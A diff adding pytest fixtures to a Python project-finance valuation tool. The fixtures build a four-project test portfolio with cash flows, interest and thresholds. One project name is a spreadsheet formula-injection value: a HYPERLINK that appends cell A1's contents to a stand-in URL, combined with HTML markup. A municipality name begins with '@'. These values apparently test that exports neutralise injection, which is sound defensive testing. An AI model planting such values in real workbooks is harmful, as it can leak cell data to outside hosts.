@@ -172,3 +172,65 @@ def sharing_book(write_book):
 def row_of(frame: pd.DataFrame, code: str) -> pd.Series:
     """The row of project ``code`` in a per-project frame."""
     return frame.set_index("project_code").loc[code]
+
+
+
+# --------------------------------------------------------------------------- the board pack's portfolios
+
+#: A project name that is a formula and markup at once.
+HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"klik") <b>Oud & Nieuw</b>'
+
+
+def allocated_portfolio():
+    """Four projects over 2018-2030, valued on 1/1/2024, with actual interest for 2020-2023.
+
+    - A: buys in 2019-2020, sells 2021-2027 (a plain IRR).
+    - B: a loss maker (negative IRR) running across the actual-interest years.
+    - C'1 (a quote in the code, so in the sheet reference): costs only, no IRR; its name is a
+      formula and markup, its municipality starts with '@'.
+    - D: finished in 2022.
+    2020 and 2024 are leap years (366 days); 2022's actual interest is 0.37 off whole euros.
+    """
+    from igemo_fin.exports.workbook_writer import workbook_bytes
+    from igemo_fin.inputs.workbook import read_workbook
+    from igemo_fin.valuation.evaluate import evaluate
+
+    V = 2024
+    sheets = build_sheets(
+        [project("A", startjaar=2019, eindjaar=2027),
+         project("B", startjaar=2020, eindjaar=2029, bestemming_zeker="nee", marktwaarde_huidige_staat=900_000),
+         project("C'1", naam=HOSTILE_NAME, gemeente="@Mechelen", startjaar=2021, eindjaar=2026),
+         project("D", status="afgerond", startjaar=2018, eindjaar=2022)],
+        flows(("A", "prognose", 2019, "verwerving", 2_000_000), ("A", "prognose", 2020, "infrastructuur", 1_500_000),
+              *[("A", "prognose", y, "verkoop", 700_000) for y in range(2021, 2028)],
+              ("B", "prognose", 2020, "verwerving", 3_000_000), ("B", "prognose", 2022, "studies", 250_000),
+              ("B", "prognose", 2024, "infrastructuur", 800_000),
+              *[("B", "prognose", y, "verkoop", 650_000) for y in range(2025, 2030)],
+              ("B", "prognose", 2027, "subsidies", 100_000),
+              ("C'1", "prognose", 2021, "verwerving", 400_000), ("C'1", "prognose", 2023, "studies", 60_000),
+              ("C'1", "prognose", 2026, "overige_kosten", 30_000),
+              ("D", "prognose", 2018, "verwerving", 900_000), ("D", "prognose", 2019, "infrastructuur", 300_000),
+              ("D", "prognose", 2021, "verkoop", 800_000), ("D", "prognose", 2022, "verkoop", 600_000)),
+        credit=flat_credit(2015, 2035, rate=3.0, rates={2022: 1.2, 2023: 4.1, 2024: 3.9, 2025: 3.6},
+                           actual={2020: 130_000, 2021: 180_500.25, 2022: 96_000.37, 2023: 301_234.56}),
+        drempels=thresholds(min_irr_pct=4.0),
+        instellingen=pd.DataFrame({"parameter": ["waarderingsjaar", "eigen_vermogen"], "waarde": [V, 5_000_000]}),
+    )
+    portfolio = read_workbook(workbook_bytes(sheets), filename="toegerekend.xlsx")
+    return portfolio, evaluate(portfolio)
+
+
+@pytest.fixture(scope="module")
+def pack_demo():
+    """``(portfolio, evaluation)`` of the demo workbook."""
+    from igemo_fin.inputs.workbook import read_workbook
+    from igemo_fin.valuation.evaluate import evaluate
+
+    portfolio = read_workbook(DEMO_WORKBOOK)
+    return portfolio, evaluate(portfolio)
+
+
+@pytest.fixture(scope="module")
+def pack_allocated():
+    """:func:`allocated_portfolio`."""
+    return allocated_portfolio()
